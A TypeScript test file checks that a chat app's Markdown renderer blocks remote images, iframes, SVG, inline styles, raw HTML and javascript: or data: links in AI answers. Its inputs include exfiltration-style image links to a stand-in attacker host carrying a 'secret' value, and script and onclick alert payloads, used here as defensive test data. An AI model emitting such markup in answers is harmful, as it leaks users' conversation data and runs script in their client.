import { TextMessagePartProvider } from "@assistant-ui/react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import { Markdown } from "./markdown";

beforeAll(() => {
  vi.stubGlobal("window", { location: { origin: "https://todo.example" } });
});
afterAll(() => {
  vi.unstubAllGlobals();
});

const render = (text: string) =>
  renderToStaticMarkup(
    <TextMessagePartProvider text={text}>
      <Markdown />
    </TextMessagePartProvider>,
  );

it("fetches nothing that an answer names", () => {
  const html = render(
    [
      "![a cat](https://evil.example/c.png?d=secret)",
      "![](https://evil.example/pixel)",
      "[![inside](https://evil.example/x.png)](https://evil.example/y)",
      "![by name][pic]",
      '<img src="https://evil.example/raw">',
      "<iframe src=https://evil.example/frame></iframe>",
      '<p style="background:url(https://evil.example/style)">styled</p>',
      '<svg><image href="https://evil.example/svg"/></svg>',
      "",
      "[pic]: https://evil.example/named.png",
    ].join("\n\n"),
  );
  expect(html).toContain("a cat");
  expect(html).toContain("(picture)");
  expect(html).toContain("by name");
  const tags = html.match(/<[^>]*>/g) ?? [];
  expect(
    tags.filter((tag) => /^<(img|image|svg|iframe|video|audio|source|link|object|embed|style)/i.test(tag)),
  ).toEqual([]);
  expect(tags.filter((tag) => /\s(src|srcset|style|poster|background)=/i.test(tag))).toEqual([]);
});

it("keeps HTML as the text that it is", () => {
  const html = render('<b onclick="alert(1)">bold</b> <script>alert(1)</script>');
  expect(html).not.toMatch(/<(b|script)\b/);
});

it("shows where links lead, and gives the other side nothing", () => {
  const html = render("[your bank](https://evil.example/?d=1) and https://example.com/a");
  const links = html.match(/<a [^>]*>/g) ?? [];
  expect(links).toHaveLength(2);
  for (const link of links) {
    expect(link).toContain('target="_blank"');
    expect(link).toContain('rel="noopener noreferrer nofollow"');
  }
  expect(html).toMatch(/your bank<span[^>]*> \(evil\.example\)<\/span>/);
  expect(html).not.toContain("(example.com)");
});

it("leaves the words of a link that leads nowhere good", () => {
  const html = render("[click](javascript:alert(1)) [data](data:text/html,x) [split](//evil.example)");
  expect(html).not.toContain("<a ");
  expect(html).toContain("click");
  expect(html).toContain("split");
});

it("leads to our own pages in the same tab", () => {
  const html = render("[your tasks](/tasks)");
  expect(html).toMatch(/<a href="\/tasks"[^>]*>your tasks<\/a>/);
  expect(html).not.toContain("_blank");
});

it("keeps the numbers that were said", () => {
  const numbers = (text: string) =>
    [...render(text).matchAll(/<li( value="(\d+)")?/g)].map(([, , value]) => value ?? "");
  expect(numbers("12. Buy milk\n15. Pay rent")).toEqual(["12", "15"]);
  expect(numbers("3) Call mom\n1) Buy milk\n\n2) Pay rent")).toEqual(["3", "1", "2"]);
  expect(numbers("- Today:\n\n  7. Buy milk\n  9. Pay rent\n- Later")).toEqual(["", "7", "9", ""]);
  expect(numbers("0. Nothing\n1. Something")).toEqual(["0", "1"]);
  // These leave the counting to Markdown.
  expect(numbers("1. Buy milk\n1. Pay rent")).toEqual(["", ""]);
  expect(numbers("- Buy milk\n- Pay rent")).toEqual(["", ""]);
});
